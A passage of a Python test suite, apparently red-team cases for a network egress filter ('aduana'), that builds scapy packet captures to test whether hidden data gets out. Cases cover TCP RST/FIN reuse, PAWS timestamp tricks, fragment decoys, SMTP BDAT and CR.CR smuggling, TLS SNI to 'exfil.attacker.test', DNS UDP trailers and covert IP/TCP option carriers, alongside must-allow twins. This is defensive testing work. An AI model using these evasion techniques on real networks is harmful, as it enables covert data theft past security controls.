    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


def rst_reuse(n, cport, isn, rst_kw, variant="rst", same_isn=False):
    """The session is established and allowed; the client sends a RST at its
    exact next sequence number with a TTL one lower than its other segments
    (it reaches the server, one hop on: the connection is reset there). aduana
    ignores a lower-TTL RST. Then a new SYN on the same ports with an ISN
    below aduana's next byte: the server has no socket and takes it; aduana
    sees a SYN mid-flow, keeps its old sequence state, and the new
    connection's bytes pass as retransmissions, unread."""
    cap = Capture()
    t = tls_established(cap, S1, cport, E2M, isn, n)
    old_next = t.cseq
    if variant == "rst":
        t.raw(True, "R", seq=old_next, **rst_kw)
    elif variant == "finrst":
        # a plain FIN (read by aduana), then a RST at the FIN's sequence
        # number plus one: the server's rcv_nxt (Linux, FreeBSD: reset)
        t.raw(True, "FA")
        t.cseq += 1
        t.raw(False, "A")
        t.raw(True, "R", seq=t.cseq)
        old_next = t.cseq - 1
    elif variant == "rstwup":
        # a record the server has not acknowledged yet, then a RST at the
        # server's last ACK (FreeBSD resets at last_ack_sent)
        t.raw(True, "PA", tls_appdata(n + "r", 100))
        t.raw(True, "R", seq=old_next)
        old_next = t.cseq = old_next + 105
    elif variant == "fin":
        # client FIN with a lower TTL (aduana ignores it); the server closes too
        t.raw(True, "FA", **rst_kw)
        t.cseq += 1
        t.raw(False, "FA")
        t.sseq += 1
        t.raw(True, "A")
    return reuse_plaintext(cap, t, n, old_next, 100000, isn=isn if same_isn else None)


@case
def case_rst_lowttl_reuse(n):
    return rst_reuse(n, 43010, 710, {"ipkw": {"ttl": 63}})


@case
def case_rst_lowttl_reuse_same_isn(n):
    """rst_lowttl_reuse, the new SYN with the first connection's own ISN:
    to us the SYN sent again, which moves nothing; the server, which lost
    the connection, answers with a SYN-ACK of a new ISN, and the client's
    plaintext from its old first byte on passes as retransmissions."""
    return rst_reuse(n, 43014, 714, {"ipkw": {"ttl": 63}}, same_isn=True)


@case
def case_finrst_reuse(n):
    return rst_reuse(n, 43013, 713, {}, variant="finrst")


@case
def case_reuse_no_close(n):
    """The same new SYN without any close first: a server that still holds
    the connection answers it with a challenge ACK, one that lost it takes
    a new connection; we cannot tell which, so it is ambiguous."""
    return rst_reuse(n, 43012, 712, {}, variant="none")


def finwait2_reuse(n, cport, isn, wait_us):
    """No trick at all: the server closes an idle connection (FIN); the
    client ACKs it and never sends its own FIN. The server's orphaned
    socket in FIN_WAIT2 is destroyed silently after tcp_fin_timeout (60 s
    on Linux). Then the client opens a new connection on the same ports,
    its ISN below aduana's next byte."""
    cap = Capture()
    t = tls_established(cap, S1, cport, E2M, isn, n)
    old_next = t.cseq
    t.raw(False, "FA", gap=5000000)
    t.sseq += 1
    t.raw(True, "A")
    return reuse_plaintext(cap, t, n, old_next, wait_us)


@case
def case_finwait2_reuse(n):
    return finwait2_reuse(n, 43050, 750, 61000000)


@case
def case_paws_bareack_old(n):
    """Both sides use timestamps. The client sends a record R (the server takes
    it, its delayed ACK not yet sent: rcv_wup is still R's start). Then a bare
    ACK at R's START (seq < our next byte; == the server's rcv_wup) with a
    stamp far ahead: Linux tcp_replace_ts_recent stores it (!after(seq,
    rcv_wup)), aduana notes only bare ACKs at the next byte. Then a decoy with
    a stamp between (aduana reads it; the server drops it, PAWS), then
    plaintext at the same seq with a stamp past the far one."""
    cap = Capture()
    t = tls_established_ts(cap, 43001, 701, n)
    base = t.cseq
    r = tls_appdata(n + "r", 100)
    t.raw(True, "PA", r, seq=base, options=t.opts(True))
    t.cseq = base + len(r)
    far = t.ts[True] + 1000000
    t.raw(True, "A", seq=base, options=t.opts(True, tsval=far))      # bare ACK at rcv_wup
    http = http_leak(n)
    decoy = tls_appdata(n + "decoy", len(http) - 5)
    b2 = t.cseq
    t.raw(True, "PA", decoy, seq=b2, options=t.opts(True))          # stamp ~ts+3: PAWS-dropped there
    t.raw(True, "PA", http, seq=b2, options=t.opts(True, tsval=far + 5))
    t.cseq = b2 + len(http)
    t.ts[True] = far + 6
    t.raw(False, "A", options=t.opts(False))
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_paws_bareack_server(n):
    """paws_bareack_old from a malicious server to the inside client (the
    receiver is the client's kernel): a server record, a bare ACK at its
    start stamped far ahead, a decoy record (PAWS-dropped by the client),
    plaintext at the same seq stamped past the far one."""
    cap = Capture()
    t = tls_established_ts(cap, 43041, 741, n)
    base = t.sseq
    r = tls_appdata(n + "r", 100)
    t.raw(False, "PA", r, seq=base, options=t.opts(False))
    t.sseq = base + len(r)
    far = t.ts[False] + 1000000
    t.raw(False, "A", seq=base, options=t.opts(False, tsval=far))
    http = b"HTTP/1.1 200 OK\r\nX-Id: " + leak(n) + b"\r\nContent-Length: 0\r\n\r\n"
    decoy = tls_appdata(n + "decoy", len(http) - 5)
    b2 = t.sseq
    t.raw(False, "PA", decoy, seq=b2, options=t.opts(False))
    t.raw(False, "PA", http, seq=b2, options=t.opts(False, tsval=far + 5))
    t.sseq = b2 + len(http)
    t.ts[False] = far + 6
    t.raw(True, "A", options=t.opts(True))
    t.data(True, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ts_reorder_retrans_ok(n):
    """Must allow (a genuine sender, both sides with timestamps): new data
    S3 (stamp s) and a retransmission of S1 (stamp s+3, sent 3 ms later)
    arrive swapped. The receiver drops S3 (PAWS) and its sender sends S3
    again with a newer stamp. aduana: ?"""
    cap = Capture()
    t = tls_established_ts(cap, 43024, 724, n)
    data = tls_appdata(n + "a", 300 - 5) + marked_record(passm(n), n + "b", 200)
    base = t.cseq
    t.raw(True, "PA", data[:100], seq=base, options=t.opts(True))
    t.raw(True, "PA", data[100:300], seq=base + 100, options=t.opts(True))
    s3 = t.opts(True)
    t.ts[True] += 2
    t.raw(True, "PA", data[:100], seq=base, options=t.opts(True))      # RTO retransmission, s+3
    t.raw(True, "PA", data[300:], seq=base + 300, options=s3)           # S3 arrives late, stamp s
    t.raw(False, "A", ack=base + 300, options=t.opts(False))
    t.raw(True, "PA", data[300:], seq=base + 300, options=t.opts(True), gap=200000)
    t.cseq = base + len(data)
    t.raw(False, "A", options=t.opts(False))
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_hold17_ok(n):
    """Must allow: a body segment lost before us, then 18 segments past the
    gap (16 held, 2 dropped: no room), the lost one again, then the 2 that
    were dropped again (the receiver never got them), byte for byte."""
    cap = Capture()
    t = tls_established(cap, S1, 43020, E2M, 720, n)
    data = tls_appdata(n + "big", 2000 - 5) + marked_record(passm(n), n + "m", 200)
    base = t.cseq
    segs = [(o, data[o:o + 100]) for o in range(0, len(data), 100)]
    t.raw(True, "PA", segs[0][1], seq=base)
    for o, p in segs[2:]:
        t.raw(True, "PA", p, seq=base + o, gap=100)
    t.raw(False, "A", ack=base + 100)
    t.raw(True, "PA", segs[1][1], seq=base + 100, gap=50000)
    t.raw(False, "A", ack=base + 100 + 100 * 17)
    for o, p in segs[18:]:
        t.raw(True, "PA", p, seq=base + o, gap=100)
    t.cseq = base + len(data)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_repack_ok(n):
    """Must allow: Linux collapses a retransmission with new data: the
    server lost [300, 600) after us; the client sends [300, 900) (old and new
    bytes, the same old bytes) in one segment."""
    cap = Capture()
    t = tls_established(cap, S1, 43023, E2M, 723, n)
    data = tls_appdata(n + "a", 500 - 5) + marked_record(passm(n), n + "b", 400 - 5 - len(passm(n)))
    base = t.cseq
    t.raw(True, "PA", data[:300], seq=base)
    t.raw(True, "PA", data[300:600], seq=base + 300)
    t.raw(False, "A", ack=base + 300)
    t.raw(True, "PA", data[300:], seq=base + 300, gap=200000)
    t.cseq = base + len(data)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_loss_ts_ok(n):
    """Must allow: after_hole_loss_ok with timestamps: the server lost a body
    segment and the next record's header after us; the client sends both
    again (later stamps), byte for byte, then goes on."""
    cap = Capture()
    t = tls_established_ts(cap, 43025, 725, n)
    rec1 = tls_appdata(n + "c1", 600)
    rec2 = marked_record(passm(n), n + "c2", 120)
    rec3 = marked_record(passm(n) + b"3", n + "c3", 300)
    data = rec1 + rec2
    base = t.cseq
    for o in range(0, len(data), 300):
        t.raw(True, "PA", data[o:o + 300], seq=base + o, options=t.opts(True))
    t.raw(False, "A", ack=base + 300, options=t.opts(False))
    t.raw(False, "A", ack=base + 300, options=t.opts(False))
    t.ts[True] += 30
    t.raw(True, "PA", data[300:], seq=base + 300, options=t.opts(True), gap=200000)
    t.cseq = base + len(data)
    t.raw(False, "A", options=t.opts(False))
    t.data(True, rec3)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"3"]}


@case
def case_finrst_reuse_v6(n):
    """finrst_reuse over IPv6 (S6 -> E2M6)."""
    cap = Capture()
    t = ETcp(cap, S6, 43040, E2M6, 443, isn=740, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, tls_appdata(n + "req", 180))
    t.data(False, tls_appdata(n + "resp", 700))
    t.raw(True, "FA")
    t.cseq += 1
    t.raw(False, "A")
    t.raw(True, "R", seq=t.cseq)
    old_next = t.cseq - 1
    return reuse_plaintext(cap, t, n, old_next, 100000, mss=1440, server_step=3000000)


@case
def case_finrst_reuse_ok(n):
    """A genuine client that closes (FIN), gets the server's last bytes
    after closing and answers with a RST past its FIN (the server resets
    there), then opens a new session on the same ports: a new flow, judged
    from its own ClientHello."""
    cap = Capture()
    t = tls_established(cap, S1, 43060, E2M, 760, n)
    t.raw(True, "FA")
    t.cseq += 1
    t.raw(False, "PA", tls_appdata(n + "late", 40))
    t.raw(True, "R", seq=t.cseq)
    t2 = ETcp(cap, S1, 43060, E2M, 443, isn=(t.cseq + 100000) & 0xFFFFFFFF, rtt_us=20000)
    t2.handshake()
    t2.data(True, hello(n + "2"))
    t2.data(False, server_hello_flight(n + "2"))
    t2.data(True, CCS + tls_appdata(n + "fin2", 53))
    t2.data(True, marked_record(passm(n), n + "req2", 120))
    t2.data(False, tls_appdata(n + "resp2", 300))
    t2.close()
    return cap, {"pass": [passm(n)]}


# Red team round 10 (helper, against eb75242): fragment decoys the
# receiver's reassembly discards (an empty fragment, ECN mixed), and a BDAT
# size past 32 bits.

def est4(port):
    return lambda cap: tls_established(cap, S1, port, E2M, port - 40000, "e%d" % port)


def est6(port):
    return lambda cap: tls_established(cap, S6, port, E2M6, port - 40000, "e%d" % port)


def frag_custom(pieces, v6=False, ident=0x6161):
    """pieces: (start, end, more, edit) over the TCP segment's bytes; start==end: an empty fragment."""
    def send(t, decoy, base):
        ipc = IPv6 if v6 else IP
        pkt = ipc(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy)
        hdr = ipc(bytes(pkt)); l4 = bytes(hdr.payload)
        for (a, b, more, edit) in pieces:
            b = min(b, len(l4)) if b is not None else len(l4)
            if v6:
                f = IPv6(src=t.c, dst=t.s) / IPv6ExtHdrFragment(nh=6, offset=a // 8, m=more, id=ident) / Raw(l4[a:b])
            else:
                f = IP(src=t.c, dst=t.s, id=ident & 0xffff, proto=6, flags="MF" if more else 0, frag=a // 8) / Raw(l4[a:b])
            if edit:
                f = edit(f)
            t.cap.emit(l2(t.c, t.s, t.vlans) / f, 200)
    return send

from scapy.layers.inet6 import IPv6ExtHdrFragment


@case
def case_after_frag4_ecn(n):
    """The decoy record in two IPv4 fragments, the first Not-ECT, the later
    ECT(0): Linux ip_frag_reasm drops the datagram (ip_frag_ecn_table 0xff,
    RFC 3168 5.3), then plaintext HTTP at the same sequence number."""
    return after_insert(n, frag_decoy([(0, 48, None), (48, 1 << 16, set_field("tos", 0x02))]), est4(44050))


@case
def case_after_frag4_ecn_ce(n):
    return after_insert(n, frag_decoy([(0, 48, None), (48, 1 << 16, set_field("tos", 0x03))]), est4(44051))


@case
def case_after_frag6_ecn(n):
    """IPv6: the same with the traffic class's ECN bits (ip6_frag_reasm uses the same table)."""
    return after_insert(n, frag_decoy([(0, 48, None), (48, 1 << 16, set_field("tc", 0x02))]), est6(44052))


@case
def case_after_frag4_empty(n):
    """The decoy in two IPv4 fragments with an empty fragment (MF, no bytes)
    between them: Linux ip_frag_queue 'end == offset' -> discard_qp kills
    the queue, so the datagram is never whole there."""
    return after_insert(n, frag_custom([(0, 48, 1, None), (48, 48, 1, None), (48, None, 0, None)]), est4(44060))


@case
def case_after_frag6_empty(n):
    return after_insert(n, frag_custom([(0, 48, 1, None), (48, 48, 1, None), (48, None, 0, None)], v6=True), est6(44061))


@case
def case_smtp_bdat_overflow(n):
    """BDAT with a 20-digit size: aduana saturates it to 2^32-1 and skips that
    many bytes unread; Postfix (off_cvt_string overflows -> 501 Syntax) skips
    nothing and reads what follows as commands."""
    cap = Capture()
    t = ETcp(cap, S1, 44120, MAIL, 25, isn=4120, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    t.data(True, b"MAIL FROM:<a@e2m.customs.example>\r\n")
    t.data(False, b"250 2.1.0 Ok\r\n")
    t.data(True, b"RCPT TO:<b@customs.example>\r\n")
    t.data(False, b"250 2.1.5 Ok\r\n")
    t.data(True, b"BDAT 99999999999999999999\r\n")
    t.data(False, b"501 5.5.4 Syntax: BDAT count [LAST]\r\n")
    t.data(True, SSH_BANNER + ssh_binary(n, leak(n)))
    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
    t.data(True, ssh_binary(n + "2", leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


# --- red team round 22 (strict zone)

# ------------------------------------------------ red team round 24 (helper): cases to paste before `def main`
# Ports 51000-51099.


def smtp_chunking_start(t):
    """Greeting and an EHLO reply that announces CHUNKING (Postfix's default), then
    MAIL and RCPT."""
    t.data(False, b"220 mail.customs.example ESMTP Postfix (Debian/GNU)\r\n")
    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
    t.data(False, b"250-mail.customs.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
                  b"250-8BITMIME\r\n250-CHUNKING\r\n250 SMTPUTF8\r\n")
    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example>\r\n")
    t.data(False, b"250 2.1.0 Ok\r\n")
    t.data(True, b"RCPT TO:<office@customs.example>\r\n")
    t.data(False, b"250 2.1.5 Ok\r\n")


def smtp_bdat_nested(n, cport, isn, verb_line):
    """verb_line opens a chunk of 40 bytes for the relay (Postfix's smtpd_token and
    Exim's sscanf("%u %n") both split BDAT's arguments on any run of blanks); the
    chunk's first line is 'BDAT 100000'. Then an SSH banner and binary packets."""
    cap = Capture()
    t = ETcp(cap, S1, cport, MAIL, 25, isn=isn, rtt_us=4000)
    t.handshake()
    smtp_chunking_start(t)
    chunk = b"BDAT 100000\r\n"
    chunk += b"Subject: x\r\n\r\nhello world\r\n"
    chunk += b"-" * (40 - len(chunk))
    assert len(chunk) == 40
    t.data(True, verb_line + chunk)
    t.data(False, b"250 2.0.0 Ok: queued as 4AB14\r\n")
    t.data(True, SSH_BANNER)
    t.data(False, b"502 5.5.2 Error: command not recognized\r\n")
    t.data(True, ssh_binary(n, leak(n)))
    t.data(True, ssh_binary(n + "2", leak(n)))
    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_smtp_bdat_2sp(n):
    """BDAT with two blanks before LAST ('BDAT 40  LAST'): conform.c's smtp_verb wants
    exactly one space and reads the line as a plain command, so it reads the 40-byte
    chunk as command lines. Postfix (smtpd_token) and Exim (sscanf "%u %n") take it as a
    40-byte last chunk. The chunk's text starts with 'BDAT 100000': aduana now skips
    100000 bytes as a chunk, while the relay, its message queued, reads the SSH banner
    and packets that follow as commands. Must drop at the SSH bytes (or at the
    chunk)."""
    return smtp_bdat_nested(n, 51001, 51001, b"BDAT 40  LAST\r\n")


@case
def case_smtp_bdat_tab(n):
    """The same with a tab between the size and LAST ('BDAT 40\\tLAST'): a blank to
    Postfix and Exim, not to aduana."""
    return smtp_bdat_nested(n, 51002, 51002, b"BDAT 40\tLAST\r\n")


@case
def case_smtp_bdat_nested_ok(n):
    """Must-allow twin: a genuine 'BDAT 40 LAST' whose chunk (a message quoting an SMTP
    transcript) begins with the text 'BDAT 100000'; then QUIT. Chunk bytes are never
    commands, so a fix that reads blanks as Postfix does must still skip the chunk."""
    cap = Capture()
    t = ETcp(cap, S1, 51003, MAIL, 25, isn=51003, rtt_us=4000)
    t.handshake()
    smtp_chunking_start(t)
    chunk = b"BDAT 100000\r\n" + passm(n) + b"\r\n"
    chunk += b"-" * (60 - len(chunk))
    t.data(True, b"BDAT 60 LAST\r\n" + chunk)
    t.data(False, b"250 2.0.0 Ok: queued as 4AB15\r\n")
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 2.0.0 Bye\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


# --- probes: TLS to the relay's TLS ports, other protocols to endpoints, UDP trailers

def tls_to(n, cport, isn, dst, dport, name, marker):
    cap = Capture()
    tls_flow(cap, S1, cport, dst, isn, n, send_whole(hello(n, sni=name)), marker, sport=dport)
    return cap


@case
def case_smtps_evil_sni(n):
    """TLS to the relay's SMTPS port (465) naming exfil.attacker.test: boc_mail declares
    hosts (mail.customs.example), and a TLS flow's name must match them (DESIGN 4)."""
    return tls_to(n, 51010, 51010, MAIL, 465, EVIL, leak(n)), {"leak": [leak(n)]}


@case
def case_imaps_evil_sni(n):
    """The same to IMAPS (993)."""
    return tls_to(n, 51011, 51011, MAIL, 993, EVIL, leak(n)), {"leak": [leak(n)]}


@case
def case_smtps_ok(n):
    """Must-allow: SMTPS (465) naming mail.customs.example."""
    return tls_to(n, 51012, 51012, MAIL, 465, "mail.customs.example", passm(n)), {"pass": [passm(n)]}


@case
def case_dns_udp_trailer(n):
    """A genuine DNS query to the resolver whose UDP length covers the query only; the
    IP datagram carries 1000 more bytes after it. Every router forwards the whole IP
    datagram (zapret's udplen games); only the resolver's stack trims to the UDP length.
    parse_l4 stops the payload at the UDP length and dns_wire_check sees a whole query:
    the trailing bytes leave the site. Must not pass."""
    cap = Capture()
    for i in range(3):
        q = bytes(DNS(id=0x5100 + i, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
        trailer = leak(n) + prand("%s%d" % (n, i), 1000)
        cap.emit(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER)
                 / UDP(sport=51017, dport=53, len=8 + len(q)) / Raw(q + trailer), 10000)
        a = bytes(DNS(id=0x5100 + i, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                      an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
        udp(cap, RESOLVER, 53, S1, 51017, a, gap=2000)
    return cap, {"leak": [leak(n)]}



# --- a ClientHello that fills the first-bytes slot exactly, then a second one behind it

def hello_exact(seed, sni, total, cut=16000):
    """A ClientHello in two records (cut after `cut` body bytes) whose records total
    exactly `total` stream bytes: a padding extension (21) takes up the rest."""
    base = hs_client_hello(seed, sni=sni, extra=[ext(21, b"")])
    hs = hs_client_hello(seed, sni=sni, extra=[ext(21, b"\x00" * (total - 10 - len(base)))])
    assert len(hs) + 10 == total
    return record(22, hs[:cut]) + record(22, hs[cut:])


def hrr_pipe_big(n, cport, isn, server, name1, name2, mark, ccs=True):
    """hrr_pipelined with a first hello of exactly 16384 bytes (the slot's size,
    STREAM_MAX): judge_hello_tail looks for a pipelined handshake record only in the
    slot, from the hello's end, and finds nothing there; conform_tls checks a client's
    handshake record only after application data. The second hello passes before the
    HRR that would arm stream_hello2."""
    cap = Capture()
    t = ETcp(cap, S1, cport, server, 443, isn=isn, rtt_us=20000)
    t.handshake()
    ch1 = hello_exact(n, name1, 16384)
    for i in range(0, len(ch1), 1400):
        t.send(True, ch1[i:i + 1400], gap=200)
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, mark + b"\x00" * 40)
    t.send(True, (CCS if ccs else b"") + hello(n, sni=name2, sid=sid, extra=[pad]), gap=1000)
    t.ack(False)
    t.data(False, hrr_flight(n))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap


@case
def case_hrr_pipe_big_front(n):
    """Shared front: hrr_pipe_front with a first hello (portal.customs.example) of
    exactly 16384 bytes in two records (OpenSSL takes hellos up to 128 KiB). The second
    hello (exfil.attacker.test), behind a ChangeCipherSpec, lies wholly past the slot:
    nothing looks at it before the HRR; the HRR then finds the slot full and refuses,
    too late. Must drop at the second hello."""
    return hrr_pipe_big(n, 51020, 51020, FRONT, FRONT_NAME, EVIL, leak(n)), {"leak": [leak(n)]}


@case
def case_hrr_pipe_big_noccs(n):
    """The same without the ChangeCipherSpec (it is optional, RFC 8446 D.4)."""
    return hrr_pipe_big(n, 51021, 51021, FRONT, FRONT_NAME, EVIL, leak(n), ccs=False), {"leak": [leak(n)]}


@case
def case_big_hello_16k_ok(n):
    """Must-allow twin: an e2m hello of exactly 16384 bytes in two records (the reader's
    bound, which DESIGN 4.2 promises to read), a normal TLS 1.3 handshake after it."""
    cap = Capture()
    t = ETcp(cap, S1, 51022, E2M, 443, isn=51022, rtt_us=20000)
    t.handshake()
    ch1 = hello_exact(n, E2M_NAME, 16384)
    for i in range(0, len(ch1), 1400):
        t.send(True, ch1[i:i + 1400], gap=200)
    t.ack(False)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_smtp_smuggle_crdotcr(n):
    """SMTP smuggling (Longin, SEC Consult 2023): the message content ends in
    '<CR>.<CR>' (bare CRs), which Cisco Secure Email and other relays take as the end of
    data; conform_smtp_client ends content only at a dot between LF or CR LF line
    ends, so it stays in content (nothing checked) while such a relay reads the SSH
    banner and packets that follow as commands. Must drop at the SSH bytes."""
    cap = Capture()
    t = ETcp(cap, S1, 51030, MAIL, 25, isn=51030, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    for c, s in ((b"MAIL FROM:<declarant@e2m.customs.example>\r\n", b"250 2.1.0 Ok\r\n"),
                 (b"RCPT TO:<office@customs.example>\r\n", b"250 2.1.5 Ok\r\n"),
                 (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n")):
        t.data(True, c)
        t.data(False, s)
    t.data(True, b"Subject: x\r\n\r\nhello\r.\r")
    t.data(False, b"250 2.0.0 Ok: queued as 4AB16\r\n")
    t.data(True, SSH_BANNER)
    t.data(True, ssh_binary(n, leak(n)))
    t.data(True, ssh_binary(n + "2", leak(n)))
    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_smtp_crdotcr_body(n):
    """Red team round 22 offered this as the must-allow twin of smtp_smuggle_crdotcr:
    an 8BITMIME message whose text holds '<CR>.<CR>' (bare-CR line ends, an old Mac
    tool's), then its real end. Postfix keeps going; a relay that ends lines at a CR
    ends the data there and reads the rest as commands. No reading holds for both, and
    RFC 5321 2.3.8 allows no bare CR: refused (smtp_dot). Must drop at that line."""
    cap = Capture()
    t = ETcp(cap, S1, 51031, MAIL, 25, isn=51031, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    for c, s in ((b"MAIL FROM:<declarant@e2m.customs.example> BODY=8BITMIME\r\n", b"250 2.1.0 Ok\r\n"),
                 (b"RCPT TO:<office@customs.example>\r\n", b"250 2.1.5 Ok\r\n"),
                 (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n")):
        t.data(True, c)
        t.data(False, s)
    t.data(True, b"Subject: table\r\n\r\ncol1\r.\rcol2\r\n" + leak(n) + b"\r\n.\r\n")
    t.data(False, b"250 2.0.0 Ok: queued as 4AB17\r\n")
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 2.0.0 Bye\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


# --- carriers outside the TLS framing on an allowed flow: header fields the receiver skips

def carrier_flow(n, cport, isn, v6, send_rec, k=3):
    """An allowed e2m session (IPv4 or IPv6); then k client records, each sent by
    send_rec(t, rec, i) with its carrier; then the server's answer and close."""
    cap = Capture()
    t = tls_established(cap, S6 if v6 else S1, cport, E2M6 if v6 else E2M, isn, n)
    for i in range(k):
        rec = tls_appdata(n + "c%d" % i, 300)
        send_rec(t, rec, i)
        t.cseq += len(rec)
        t.ack(False)
    t.data(False, tls_appdata(n + "end", 200))
    t.close()
    return cap


@case
def case_carrier_dstopt6(n):
    """IPv6: every record of an allowed e2m session rides behind a Destination Options
    header whose option is of an unknown type with action bits 00 ('skip over this
    option and continue', RFC 8200 4.2, type 0x1e) and 1000 bytes of data. The server's
    stack skips it and takes the segment; routers forward it by destination. The
    option's bytes are a carrier of anything to the endpoint, outside the TLS framing
    the flow is held to (as icmp_err_tunnel_e2m's quoted bytes were). Must not pass."""
    def send(t, rec, i):
        opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x1E, optdata=leak(n) + prand("%s%d%d" % (n, i, j), 230))
                                         for j in range(4)])
        pkt = (IPv6(src=t.c, dst=t.s) / opt / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq,
                                                   ack=t.sseq, window=64240) / Raw(rec))
        t.cap.emit(l2(t.c, t.s, t.vlans) / pkt, t.rtt // 2)
    return carrier_flow(n, 51040, 51040, True, send), {"leak": [leak(n)]}


@case
def case_carrier_tcpopt(n):
    """IPv4: every record of an allowed e2m session carries a TCP option of the
    experimental kind 254 (RFC 6994) with 36 bytes: the marker. Linux ignores options
    it does not know and takes the segment. Must not pass."""
    def send(t, rec, i):
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        t.raw(True, "PA", rec, options=[(254, data)])
    return carrier_flow(n, 51041, 51041, False, send), {"leak": [leak(n)]}


@case
def case_carrier_ipopt(n):
    """IPv4: every record of an allowed e2m session carries an IPv4 option of an
    unassigned type (0x9e: copied, class 0, number 30) with 36 bytes: the marker. Hosts
    and routers ignore an option they do not know (RFC 1122 3.2.1.8). Must not pass."""
    from scapy.layers.inet import IPOption
    def send(t, rec, i):
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        t.raw(True, "PA", rec, ipkw={"options": [IPOption(bytes([0x9e, 38]) + data)]})
    return carrier_flow(n, 51042, 51042, False, send), {"leak": [leak(n)]}


@case
def case_dns_udp_l2pad_ok(n):
    """Must-allow twin of dns_udp_trailer: a resolver's priming query (./NS, RFC 8109)
    from the host is 45 bytes of IPv4: its frame is padded to Ethernet's 60-byte minimum
    after the IP datagram (the IP and UDP lengths both exact). A fix that refuses bytes
    past the UDP length must not take link padding for them."""
    from scapy.packet import Padding
    cap = Capture()
    q = bytes(DNS(id=0x5180, rd=0, qd=DNSQR(qname=".", qtype="NS")))
    cap.emit(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER) / UDP(sport=51018, dport=53) / Raw(q)
             / Padding(b"\x00" * (60 - 14 - 20 - 8 - len(q))), 10000)
    a = bytes(DNS(id=0x5180, qr=1, ra=1, qd=DNSQR(qname=".", qtype="NS"),
                  an=DNSRR(rrname=".", type="NS", ttl=518400, rdata="a.root-servers.net")))
    udp(cap, RESOLVER, 53, S1, 51018, a, gap=2000)
    return cap, {"pass": [q, a]}


@case
def case_carrier_tcpopt_eol(n):
    """carrier_tcpopt's bytes after an End of Option List (kind 0): a receiver stops
    reading options there (Linux tcp_parse_options) and takes the segment; the 39 bytes
    after it, up to the data offset, carry the marker. A fix that refuses unknown kinds
    must also look past the end of the list."""
    def send_raw(t, rec, i):
        data = (leak(n) + prand("%s%d" % (n, i), 40))[:39]
        # options in the header's 40 bytes: EOL, then the marker (scapy sums the whole segment)
        seg = TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq, ack=t.sseq, window=64240,
                  dataofs=15) / Raw(b"\x00" + data + rec)
        t.cap.emit(l2(t.c, t.s, t.vlans) / IP(src=t.c, dst=t.s) / seg, t.rtt // 2)
    return carrier_flow(n, 51043, 51043, False, send_raw), {"leak": [leak(n)]}


# --- red team round 22 (false blocks of honest traffic)

# --- link services from inside held to what honest stacks send: must-allow twins of
# rt10f_pppoe_padi_tag, rt10f_dhcp_opts, rt10f_dhcp6_opts, rt10f_nd_opts and
# rt10f_mld_opts (ports 55200-55249). Each frame's message is a PASS marker: it must
# reach the outside link whole.

def link_ok_flow(n, cport, v6, frames):
    """The strict host's link frames (frames(mac) yields (frame, marker)), on the inside
    port by their MAC (--inside-mac), then an allowed e2m session."""
    cap = Capture()
    c, s = (S6, E2M6) if v6 else (S1, E2M)
    mac = mac_pair(c, s)[0]
    marks = []
    for fr, mark in frames(mac):
        cap.emit(fr, 2000)
        marks.append(mark)
    tls_flow(cap, c, cport, s, cport, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n)] + marks, "replay_args": ["--inside-mac", mac]}


def dhcp4_msg(mac, xid, opts, flags=0, pad_to=0):
    """A client's BOOTREQUEST with the cookie, opts (code, bytes) and END, padded with
